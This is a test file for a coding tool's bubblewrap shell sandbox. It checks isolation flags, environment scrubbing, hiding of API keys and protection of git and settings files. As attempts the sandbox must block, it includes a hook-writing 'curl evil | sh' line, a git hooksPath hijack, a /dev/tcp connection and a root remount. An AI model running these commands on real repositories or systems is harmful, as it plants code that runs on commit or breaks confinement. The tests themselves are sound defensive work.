import { deepStrictEqual as assertEquals, notEqual, ok as assert } from "node:assert/strict";
import { bashTool } from "../../src/tools/bash.ts";
import { createTempWorkspace, type TempWorkspace, toolContext } from "../_fakes/tool_context.ts";
import { exists, exitCodeOf, hostDirectory, openSandbox, outputOf, runIn, SECRET } from "./_sandbox.ts";

function assertIncludes(actual: string, expected: string): void {
  assert(
    actual.includes(expected),
    `expected ${JSON.stringify(actual)} to include ${JSON.stringify(expected)}`,
  );
}

/** A git-like workspace: .git/hooks, .git/config and .mewcode/ as a real repository has them. */
async function createRepository(): Promise<TempWorkspace> {
  const workspace = await createTempWorkspace();
  await Deno.mkdir(`${workspace.root}/.git/hooks`, { recursive: true });
  await Deno.writeTextFile(`${workspace.root}/.git/config`, "[core]\n");
  await Deno.writeTextFile(`${workspace.root}/.git/HEAD`, "ref: refs/heads/main\n");
  await Deno.mkdir(`${workspace.root}/.mewcode`);
  await Deno.writeTextFile(`${workspace.root}/.mewcode/settings.json`, "{}\n");
  return workspace;
}

Deno.test("ShellSandbox passes its preflight on this machine with absolute helper paths (REQUIRE_SANDBOX)", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  assertEquals(sandbox.unavailable, null);
  assertEquals(sandbox.plan.wrapper[0], "/usr/bin/bwrap");
  assertEquals(sandbox.plan.shell, "/usr/bin/bash");
  assert(sandbox.plan.seccomp !== null, "a seccomp program");
});

Deno.test("ShellSandbox builds the bubblewrap flags for workspace-write", async () => {
  await using workspace = await createRepository();
  const root = workspace.root;
  await using sandbox = await openSandbox(root, "workspace-write");
  const { plan } = await sandbox.prepareCall();
  const text = plan.wrapper.join(" ");
  for (
    const flags of [
      "--die-with-parent --new-session --unshare-pid --unshare-ipc --unshare-uts --unshare-cgroup-try --unshare-net",
      "--cap-drop ALL --ro-bind / / --dev /dev --proc /proc --remount-ro /proc --size",
      `--bind ${root} ${root}`,
      `--bind ${root}/.git ${root}/.git`,
      `--ro-bind ${root}/.git/config ${root}/.git/config`,
      // Empty, so covered like a missing one: it need not exist when the sandbox starts.
      `--tmpfs ${root}/.git/hooks --remount-ro ${root}/.git/hooks`,
      `--ro-bind ${root}/.mewcode ${root}/.mewcode`,
      "--seccomp 0",
      `--chdir ${root}`,
    ]
  ) assertIncludes(text, flags);
  // The scratch folders share the memory limit (/tmp half, /var/tmp and /dev/shm an eighth each), /dev
  // read-only but for its own /dev/shm and the mqueue filesystem of its IPC namespace.
  const scratch =
    /--size (\d+) --tmpfs \/tmp --size (\d+) --tmpfs \/var\/tmp .* --size (\d+) --tmpfs \/dev\/shm --mqueue \/dev\/mqueue --remount-ro \/dev /
      .exec(text);
  assertEquals(
    scratch !== null && Number(scratch[1]) === 4 * Number(scratch[2]) && scratch[2] === scratch[3],
    true,
    text,
  );
  assertEquals(text.includes(SECRET), false, "a secret reached the bubblewrap arguments");
});

Deno.test("ShellSandbox keeps an allowlist of the environment plus non-interactive settings, never secrets", async () => {
  await using workspace = await createTempWorkspace();
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    await using sandbox = await openSandbox(workspace.root, mode);
    const { env } = sandbox.plan;
    assertEquals(Object.values(env).includes(SECRET), false);
    assertEquals(env.ANTHROPIC_API_KEY, undefined);
    assertEquals(env.PATH, Deno.env.get("PATH") ?? env.PATH);
    for (
      const [name, value] of Object.entries({
        TERM: "dumb",
        PAGER: "cat",
        GIT_PAGER: "cat",
        GIT_EDITOR: "true",
        GIT_TERMINAL_PROMPT: "0",
        CI: "1",
      })
    ) assertEquals(env[name], value, name);
  }
});

/** Every process's command line on the host that holds `text`: what any local user can read (`ps`). */
async function commandLinesHolding(text: string): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    const line = await Deno.readTextFile(`/proc/${entry.name}/cmdline`).catch(() => "");
    if (line.includes(text)) found.push(`${entry.name}: ${line.replaceAll("\0", " ").slice(0, 120)}`);
  }
  return found;
}

Deno.test("The tools' environment reaches commands, never the command lines every local user can read", async (t) => {
  await using workspace = await createTempWorkspace();
  // A token a user gives the tools in settings' `env`, and a variable a set-user-ID bubblewrap would lose.
  const token = `npm_${crypto.randomUUID()}`;
  const extraEnv = { NPM_TOKEN: token, TMPDIR: "/var/tmp" };
  const show = 'printf "%s %s" "$NPM_TOKEN" "$TMPDIR"; sleep 1';
  for (const mode of ["workspace-write", "read-only", "danger-full-access"] as const) {
    await t.step(mode, async () => {
      await using sandbox = await openSandbox(workspace.root, mode, { extraEnv });
      const call = await sandbox.prepareCall();
      for (const wrapper of [call.plan.wrapper, call.plan.persistent?.wrapper ?? []]) {
        assertEquals(wrapper.some((argument) => argument.includes(token)), false, wrapper.join(" "));
      }
      await call.finish({ keptSandbox: false });
      const running = runIn(sandbox, show);
      await new Promise((resolve) => setTimeout(resolve, 500));
      assertEquals(await commandLinesHolding(token), [], "a Bash call showed the token in a command line");
      assertEquals(outputOf((await running).result), `${token} /var/tmp`);
      if (mode === "danger-full-access") return;
      const own = sandbox.runCommand(show, { mode: "read-only", timeoutMs: 10_000 });
      await new Promise((resolve) => setTimeout(resolve, 500));
      assertEquals(await commandLinesHolding(token), [], "mewcode's own command showed the token");
      const result = await own;
      assertEquals(result.status === "exited" ? result.stdout : result, `${token} /var/tmp`);
    });
  }
});

Deno.test("The input of mewcode's own sandboxed commands (a hook's JSON) reaches them whole, never a command line", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  // What a PostToolUse hook gets: the file the model read, secrets included.
  const secret = `AKIA${crypto.randomUUID()}`;
  for (const input of [`{"tool_response":"${secret}"}\n`, `${secret} $HOME \\n '\`x\`'`, ""]) {
    const running = sandbox.runCommand(
      'cat; echo; echo "[${MEWCODE_COMMAND_INPUT-unset}]"; sleep 1',
      { mode: "read-only", stdin: input, timeoutMs: 10_000 },
    );
    await new Promise((resolve) => setTimeout(resolve, 500));
    if (input !== "") {
      assertEquals(await commandLinesHolding(secret), [], "the input showed in a command line");
    }
    const result = await running;
    // As a here-document, the input ends with a line break: its own, or one added.
    const given = input === "" || input.endsWith("\n") ? input : `${input}\n`;
    assertEquals(result.status === "exited" ? result.stdout : result, `${given}\n[unset]\n`);
  }
});

Deno.test("The workspace-write sandbox lets a command write in the workspace", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const { result } = await runIn(sandbox, 'touch "$PWD/ok" && echo made');
  assertEquals(result.content, "<output>made</output>\n<exit_code>0</exit_code>");
  assertEquals(await exists(`${workspace.root}/ok`), true);
});

Deno.test("The workspace-write sandbox refuses writes to /etc; the home it writes is its own", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
  const { result: etc } = await runIn(sandbox, `touch /etc/${name}`);
  notEqual(exitCodeOf(etc), 0);
  assertIncludes(outputOf(etc), "Read-only file system");
  assertEquals(await exists(`/etc/${name}`), false);
  const { result: home } = await runIn(sandbox, `touch "$HOME/${name}" && echo written`);
  assertEquals(outputOf(home), "written", "the home is an empty private tmpfs");
  assertEquals(await exists(`${Deno.env.get("HOME")}/${name}`), false);
});

Deno.test("The sandbox keeps capabilities dropped, so root cannot remount / read-write", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const name = `mewcode-sandbox-${crypto.randomUUID()}`;
  const { result } = await runIn(sandbox, `mount -o remount,rw,bind / && touch /etc/${name}`);
  notEqual(exitCodeOf(result), 0);
  assertEquals(await exists(`/etc/${name}`), false);
});

Deno.test("The sandbox blocks a connection to a port on 127.0.0.1 unless the network is allowed", async () => {
  await using workspace = await createTempWorkspace();
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const accepting = (async () => {
    for await (const connection of listener) connection.close();
  })().catch(() => {});
  const command = `exec 3<>/dev/tcp/127.0.0.1/${listener.addr.port} && echo connected`;
  {
    await using closed = await openSandbox(workspace.root, "workspace-write");
    const { result } = await runIn(closed, command);
    notEqual(exitCodeOf(result), 0);
    assertEquals(outputOf(result).includes("connected"), false);
  }
  {
    await using open = await openSandbox(workspace.root, "workspace-write", { network: true });
    const { result } = await runIn(open, command);
    assertEquals(result.content, "<output>connected</output>\n<exit_code>0</exit_code>");
  }
  listener.close();
  await accepting;
});

Deno.test("The sandboxed shell does not see the API key in its environment in any mode", async () => {
  await using workspace = await createTempWorkspace();
  for (const mode of ["workspace-write", "read-only", "danger-full-access"] as const) {
    await using sandbox = await openSandbox(workspace.root, mode);
    const { result } = await runIn(sandbox, 'echo "key=[$ANTHROPIC_API_KEY]"; env');
    assertEquals(result.isError, false);
    assert(outputOf(result).startsWith("key=[]\n"), mode);
    assertEquals(result.content.includes(SECRET), false, mode);
    assertIncludes(outputOf(result), "PAGER=cat");
  }
});

Deno.test("The workspace-write sandbox keeps .git/hooks, .git/config and .mewcode read-only", async () => {
  await using workspace = await createRepository();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  for (
    const command of [
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
      "echo '[core] hooksPath = /tmp' >> .git/config",
      "echo '{}' > .mewcode/settings.json",
      "mv .git .git-moved",
      "mv .mewcode .mewcode-moved",
    ]
  ) {
    const { result } = await runIn(sandbox, command);
    notEqual(exitCodeOf(result), 0, command);
  }
  assertEquals(await exists(`${workspace.root}/.git/hooks/pre-commit`), false);
  assertEquals(await Deno.readTextFile(`${workspace.root}/.git/config`), "[core]\n");
  assertEquals(await exists(`${workspace.root}/.git-moved`), false);
  const { result: git } = await runIn(sandbox, "echo 'ref: refs/heads/work' > .git/HEAD && echo ok");
  assertEquals(outputOf(git), "ok", "the rest of .git stays writable for git itself");
});

Deno.test("Protected folders that do not exist are read-only during a call and gone after it", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const { result } = await runIn(
    sandbox,
    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json; mkdir -p .mewcode && echo '{}' > .mewcode/settings.json; echo done",
  );
  assertIncludes(outputOf(result), "Read-only file system");
  for (const name of [".vscode", ".mewcode", ".idea"]) {
    assertEquals(await exists(`${workspace.root}/${name}`), false, `${name} placeholder removed`);
  }
});

Deno.test("The sandbox's /tmp and /var/tmp are private: writes there do not reach the host", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  for (const folder of ["/tmp", "/var/tmp"]) {
    const path = `${folder}/mewcode-sandbox-${crypto.randomUUID()}`;
    const { result } = await runIn(sandbox, `echo inside > ${path} && cat ${path}`);
    assertEquals(result.content, "<output>inside</output>\n<exit_code>0</exit_code>");
    assertEquals(await exists(path), false);
  }
});

Deno.test("The sandbox runs the shell in its own PID namespace", async () => {
  await using workspace = await createTempWorkspace();
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    await using sandbox = await openSandbox(workspace.root, mode);
    const { result } = await runIn(sandbox, `kill -0 ${Deno.pid} 2>/dev/null && echo visible || echo hidden`);
    assertEquals(outputOf(result), "hidden", mode);
  }
});

Deno.test("The read-only sandbox refuses even writes in the workspace", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "read-only");
  const { plan } = await sandbox.prepareCall();
  assertIncludes(plan.wrapper.join(" "), `--ro-bind ${workspace.root} ${workspace.root}`);
  const { result } = await runIn(sandbox, 'touch "$PWD/ok"');
  notEqual(exitCodeOf(result), 0);
  assertIncludes(outputOf(result), "Read-only file system");
  assertEquals(await exists(`${workspace.root}/ok`), false);
  const { result: read } = await runIn(sandbox, "pwd; ls /");
  assertEquals(exitCodeOf(read), 0, "reading still works");
});

Deno.test("danger-full-access gives full file access, in a PID namespace, with the cleared environment", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "danger-full-access");
  assertEquals(sandbox.plan.wrapper[0], "/usr/bin/bwrap");
  assertEquals(sandbox.plan.unavailable, null);
  await using host = await hostDirectory("mewcode-unsandboxed-");
  const path = `${host.path}/written`;
  const { result } = await runIn(sandbox, `touch ${path}; pwd; echo "key=[$ANTHROPIC_API_KEY] pager=$PAGER"`);
  assertEquals(outputOf(result), `${workspace.root}\nkey=[] pager=cat`);
  assertEquals(await exists(path), true, "the host was written");
});

Deno.test("danger-full-access without bubblewrap runs the shell directly and says the key is exposed", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "danger-full-access", {
    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null, cat: null },
  });
  assertEquals(sandbox.plan.wrapper, []);
  assertIncludes(sandbox.describe().join("\n"), "API key: READABLE by commands");
  const { result } = await runIn(sandbox, "echo direct");
  assertEquals(outputOf(result), "direct");
});

Deno.test("A missing bubblewrap makes Bash fail with an actionable message and run nothing", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write", {
    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null, cat: null },
  });
  const message = sandbox.unavailable;
  assert(message !== null);
  for (
    const hint of [
      "not found in the system directories",
      "apt-get install bubblewrap",
      "kernel.apparmor_restrict_unprivileged_userns",
      "--sandbox danger-full-access",
    ]
  ) assertIncludes(message, hint);
  const result = await bashTool.execute(toolContext(workspace.root, { shell: sandbox.plan }), {
    command: "touch ran",
  });
  assertEquals(result.isError, true);
  assertEquals(result.content, message);
  assertEquals(await exists(`${workspace.root}/ran`), false);
});

Deno.test("A bubblewrap that cannot create namespaces fails the preflight with the AppArmor hint", async () => {
  await using workspace = await createTempWorkspace();
  await using host = await hostDirectory("mewcode-fake-bwrap-");
  const fake = `${host.path}/bwrap`;
  await Deno.writeTextFile(
    fake,
    "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n",
  );
  await Deno.chmod(fake, 0o755);
  await using sandbox = await openSandbox(workspace.root, "read-only", {
    helpers: { bwrap: fake, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null, cat: null },
  });
  const message = sandbox.unavailable;
  assert(message !== null);
  assertIncludes(message, "setting up uid map: Permission denied");
  assertIncludes(message, "kernel.apparmor_restrict_unprivileged_userns");
  assertIncludes(message, "--sandbox danger-full-access");
  const result = await bashTool.execute(toolContext(workspace.root, { shell: sandbox.plan }), {
    command: "true",
  });
  assertEquals(result.isError, true);
});

Deno.test("ShellSandbox falls back to sh where bash is missing, and fails without any shell", async () => {
  await using workspace = await createTempWorkspace();
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    await using sandbox = await openSandbox(workspace.root, mode, {
      helpers: { bwrap: "/usr/bin/bwrap", bash: null, sh: "/usr/bin/sh", git: null, rg: null, cat: null },
    });
    assertEquals(sandbox.plan.shell, "/usr/bin/sh");
    assertEquals(sandbox.unavailable, null);
    const { result } = await runIn(sandbox, "echo out; echo err >&2; exit 4");
    assertEquals(result.content, "<output>out\nerr</output>\n<exit_code>4</exit_code>");
  }
  await using none = await openSandbox(workspace.root, "workspace-write", {
    helpers: { bwrap: "/usr/bin/bwrap", bash: null, sh: null, git: null, rg: null, cat: null },
  });
  assert(none.unavailable !== null);
  assertIncludes(none.unavailable, "no shell found");
});

Deno.test("ShellSandbox.describe names the home's credentials it hides when the workspace is the home", async () => {
  await using workspace = await createTempWorkspace();
  await Deno.mkdir(`${workspace.root}/.ssh`);
  await Deno.writeTextFile(`${workspace.root}/.npmrc`, "//registry.npmjs.org/:_authToken=x\n");
  await using home = await openSandbox(workspace.root, "workspace-write", {
    env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: workspace.root },
  });
  assertIncludes(
    home.describe().join("\n"),
    "credentials of the home folder the workspace holds, hidden from the shell and the file tools: " +
      `${workspace.root}/.ssh, ${workspace.root}/.npmrc`,
  );
  await using elsewhere = await openSandbox(workspace.root, "workspace-write");
  assertEquals(elsewhere.describe().join("\n").includes("credentials of the home folder"), false);
});

Deno.test("ShellSandbox.describe reports backend, helpers, seccomp, home, limits and preflight for doctor", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const report = sandbox.describe().join("\n");
  for (
    const part of [
      "workspace-write",
      "bubblewrap (/usr/bin/bwrap)",
      "bwrap: /usr/bin/bwrap",
      "git: /usr/bin/git",
      "network: off",
      "seccomp: socket(AF_UNIX) fails with EPERM",
      "user namespaces: commands cannot create one (--disable-userns)",
      "home: every home folder is an empty tmpfs",
      "/run",
      "processes:",
      "memory:",
      "API key: not reachable",
      "preflight: ok",
    ]
  ) assertIncludes(report, part);
  await using broken = await openSandbox(workspace.root, "read-only", {
    helpers: { bwrap: null, bash: "/usr/bin/bash", sh: "/usr/bin/sh", git: null, rg: null, cat: null },
  });
  const brokenReport = broken.describe().join("\n");
  assertIncludes(brokenReport, "preflight: FAILED");
  assertIncludes(brokenReport, "apt-get install bubblewrap");
});

Deno.test("ShellSandbox.runCommand runs mewcode's own commands sandboxed, with input, separate streams and the exit code", async () => {
  await using workspace = await createRepository();
  for (const mode of ["workspace-write", "danger-full-access"] as const) {
    await using sandbox = await openSandbox(workspace.root, mode);
    const result = await sandbox.runCommand(
      'read -r line; echo "got $line"; echo oops >&2; touch written 2>/dev/null && echo wrote; ' +
        "{ echo x >> .git/config; } 2>/dev/null || echo config-protected; exit 3",
      { mode: "read-only", stdin: '{"hook":"input"}\n', timeoutMs: 10_000 },
    );
    assertEquals(result.status, "exited", mode);
    if (result.status !== "exited") continue;
    assertEquals(result.code, 3);
    assertEquals(result.stdout, 'got {"hook":"input"}\nconfig-protected\n');
    assertEquals(result.stderr, "oops\n");
    assertEquals(await exists(`${workspace.root}/written`), false, "read-only means read-only");
    const writer = await sandbox.runCommand(
      "echo made > made.txt && { echo x >> .git/config; } 2>/dev/null || echo refused",
      {
        mode: "workspace-write",
        timeoutMs: 10_000,
      },
    );
    assertEquals(writer.status === "exited" ? writer.stdout : writer, "refused\n");
    assertEquals(await Deno.readTextFile(`${workspace.root}/made.txt`), "made\n");
    assertEquals(await Deno.readTextFile(`${workspace.root}/.git/config`), "[core]\n");
    await Deno.remove(`${workspace.root}/made.txt`);
  }
});

Deno.test("ShellSandbox.runCommand hands a large standard output over as it arrives, whole and in order", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  // 3 MB of numbered lines: many reads, each in the same reused buffer.
  const lines = 200_000;
  const pieces: Uint8Array[] = [];
  const result = await sandbox.runCommand(`seq 1 ${lines}; echo done >&2`, {
    mode: "read-only",
    timeoutMs: 30_000,
    onStdout: (bytes) => pieces.push(bytes.slice()),
  });
  assertEquals(result.status === "exited" ? [result.code, result.stdout, result.stderr] : result, [
    0,
    "",
    "done\n",
  ]);
  assert(pieces.length > 1, `${pieces.length} pieces`);
  const text = new TextDecoder().decode(await new Blob(pieces as BlobPart[]).arrayBuffer());
  assertEquals(text, Array.from({ length: lines }, (_, index) => `${index + 1}\n`).join(""));
});

Deno.test("ShellSandbox.runCommand stops a command at its time limit and leaves nothing running", async () => {
  await using workspace = await createTempWorkspace();
  await using sandbox = await openSandbox(workspace.root, "workspace-write");
  const marker = `sleep_${crypto.randomUUID().replaceAll("-", "")}`;
  const result = await sandbox.runCommand(`${marker}() { sleep 30; }; ${marker} & ${marker}`, {
    mode: "workspace-write",
    timeoutMs: 300,
  });
  assertEquals(result.status, "timed-out");
  await new Promise((resolve) => setTimeout(resolve, 200));
  let survivors = 0;
  for await (const entry of Deno.readDir("/proc")) {
    if (!/^\d+$/.test(entry.name)) continue;
    const commandLine = await Deno.readTextFile(`/proc/${entry.name}/cmdline`).catch(() => "");
    if (commandLine.includes(marker)) survivors += 1;
  }
  assertEquals(survivors, 0);
});
